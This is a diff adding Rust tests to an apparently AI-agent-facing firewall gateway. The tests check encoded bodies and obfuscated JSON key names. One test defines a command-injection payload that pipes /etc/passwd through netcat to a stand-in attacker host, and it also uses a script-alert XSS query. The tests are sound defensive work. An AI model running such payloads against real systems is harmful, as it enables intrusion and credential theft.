@@ -211,6 +211,58 @@ fn an_xml_body_that_can_grow_while_it_is_read_is_refused_at_once() {
 }
 
 #[test]
+fn a_body_in_a_code_is_refused_unseen_and_only_where_the_firewall_blocks() {
+    // Rules that refuse nothing: it is the gateway that does.
+    let dir = crate::support::TempDir::new();
+    let rules = dir.path().join("none.conf");
+    fs::write(&rules, "SecAction \"id:1,phase:1,pass,nolog\"\n").unwrap();
+    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\neA==\r\n--b--\r\n";
+    let coded = [
+        ("Content-Type: text/plain\r\nContent-Encoding: gzip\r\n", "x"),
+        ("Content-Type: text/plain; charset=utf-7\r\n", "x"),
+        ("Content-Type: multipart/form-data; boundary=b\r\n", part),
+    ];
+    for (mode, status) in [("blocking", 415), ("detection_only", 200)] {
+        let (gateway, _node) = gateway(&format!("mode: {mode}, rules: [{}], timeout: 30s", rules.display()));
+        for (fields, body) in coded {
+            let head =
+                format!("POST /echo HTTP/1.1\r\nHost: gateway.test\r\n{fields}Content-Length: {}\r\n\r\n", body.len());
+            let answer = gateway.connect("alice").exchange(format!("{head}{body}").as_bytes()).unwrap();
+            assert_eq!(answer.status, status, "{mode} {fields}");
+        }
+    }
+}
+
+/// All that the engine calls `json.params.message.parts.array_0.text`, but the text of a message.
+#[test]
+fn the_name_of_the_text_of_a_message_is_to_be_had_in_no_other_way() {
+    let (gateway, node) = gateway(&blocking());
+    const NAME: &str = "json.params.message.parts.array_0.text";
+    const ATTACK: &str = "; cat /etc/passwd | nc evil.example 4444";
+    let send = |kind: &str, target: &str, body: &str| {
+        let head = format!("POST {target} HTTP/1.1\r\nHost: gateway.test\r\n{AGENT}Content-Type: {kind}\r\n");
+        let request = format!("{head}Content-Length: {}\r\n\r\n{body}", body.len());
+        gateway.connect("alice").exchange(request.as_bytes()).unwrap().status
+    };
+    let query = format!("/echo?{NAME}=%3Cscript%3Ealert(1)%3C/script%3E");
+    assert_eq!(send("application/json", &query, "{}"), 403);
+    assert_eq!(send("application/x-www-form-urlencoded", "/echo", &format!("{NAME}={ATTACK}")), 403);
+    for body in [
+        json!({ "params.message.parts.array_0.text": ATTACK }).to_string(),
+        json!({ "params": { "message": { "parts": { "array_0": { "text": ATTACK } } } } }).to_string(),
+        json!({ "params": { "message.parts": [ { "text": ATTACK } ] } }).to_string(),
+        format!(r#"{{"\u0070arams.message.parts.array_0.text":"{ATTACK}"}}"#),
+        format!(r#"{{"params\u002emessage":{{"parts":[{{"text":"{ATTACK}"}}]}}}}"#),
+    ] {
+        assert_eq!(send("application/json", "/echo", &body), 403, "{body}");
+    }
+    assert_eq!(node.count(), 0);
+    let keys = json!({ "jsonrpc": "2.0", "id": 1, "method": "message/send", "params": { "message": {
+        "parts": [ { "text": r#"{"params.message": 1, "array_0": "\\"}"# } ], "metadata": { "https://a.example/v1": 1 } } } });
+    assert_eq!(post(&gateway, AGENT, &keys.to_string()).status, 200, "{}", gateway.stdout());
+}
+
+#[test]
 fn long_texts_are_looked_at_to_their_end() {
     let (gateway, node) = gateway(&blocking());
     let prose = "The committee met on Tuesday to discuss the budget for next year, which (as expected) grew by 4.5%. ";
